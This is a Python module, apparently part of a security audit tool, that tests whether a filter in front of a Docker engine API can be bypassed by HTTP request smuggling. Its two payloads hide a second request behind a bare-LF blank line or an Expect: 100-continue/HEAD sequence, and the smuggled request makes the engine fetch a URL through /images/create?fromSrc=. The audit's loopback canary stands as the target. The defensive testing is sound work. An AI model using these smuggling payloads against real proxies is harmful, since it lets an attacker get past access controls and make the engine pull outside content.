"""Request framing: a second request hidden where a filter that parses differently from the
engine does not look; the hidden request makes the engine fetch the audit's loopback URL.
"""

from __future__ import annotations

import json
import re
from urllib.parse import quote

from repro_gate.runner.audit.engine import Finding, Outcome, exchange
from repro_gate.runner.audit.steps import Context

LF, CRLF = "\n", "\r\n"


def _import_request(ctx: Context, token: str, newline: str) -> str:
    """A body-less request that makes the engine fetch the loopback URL for `token`."""
    url = quote(ctx.loopback.url(token), safe="")
    return (f"POST /images/create?fromSrc={url}&repo={ctx.name('import')} HTTP/1.1{newline}"
            f"Host: docker{newline}")


def _framing(ctx: Context, token: str, received: bytes, expected: int) -> Finding:
    """What came of a smuggled request: the loopback hit, or who answered."""
    if ctx.loopback.hit(token):
        return Finding(Outcome.ESCAPED, "the smuggled request reached the engine and it "
                                        "fetched a URL on the host's loopback")
    finals = [s for s in re.findall(rb"HTTP/1\.[01] (\d{3})", received) if s[:1] != b"1"]
    if not finals:
        return Finding(Outcome.REFUSED_BY_FILTER, "the endpoint hung up without an answer")
    if b"api-version" not in received.lower():
        return Finding(Outcome.REFUSED_BY_FILTER, f"the endpoint answered {finals[0].decode()}")
    if len(finals) >= expected:
        return Finding(Outcome.STOPPED_BY_ENGINE, "the engine answered the smuggled request; "
                                                  "it fetched nothing")
    return Finding(Outcome.NO_EFFECT, f"{len(finals)} answer(s); the smuggled request was "
                                      "not served")


def bare_lf_smuggling(ctx: Context) -> Finding:
    """A header value ending in a bare-LF blank line, then a second request."""
    token = ctx.name("bare-lf")
    data = (f"GET /_ping HTTP/1.1\r\nHost: docker\r\nX-Audit: 1\n\n"
            f"{_import_request(ctx, token, LF)}\r\n\r\n").encode()
    return _framing(ctx, token, exchange(ctx.target.endpoint, [data]), 2)


def expect_then_head(ctx: Context) -> Finding:
    """`Expect: 100-continue` on a create, then a HEAD, then a raw request."""
    token, name = ctx.name("expect"), ctx.name("expect")
    ctx.engine.containers.append(name)
    body = json.dumps({"Image": ctx.target.image, "HostConfig": {"NetworkMode": "none"}})
    parts = [
        (f"POST /containers/create?name={name} HTTP/1.1\r\nHost: docker\r\n"
         f"Content-Type: application/json\r\nExpect: 100-continue\r\n"
         f"Content-Length: {len(body)}\r\n\r\n{body}").encode(),
        b"HEAD /_ping HTTP/1.1\r\nHost: docker\r\n\r\n",
        f"{_import_request(ctx, token, CRLF)}\r\n".encode(),
    ]
    return _framing(ctx, token, exchange(ctx.target.endpoint, parts), 3)
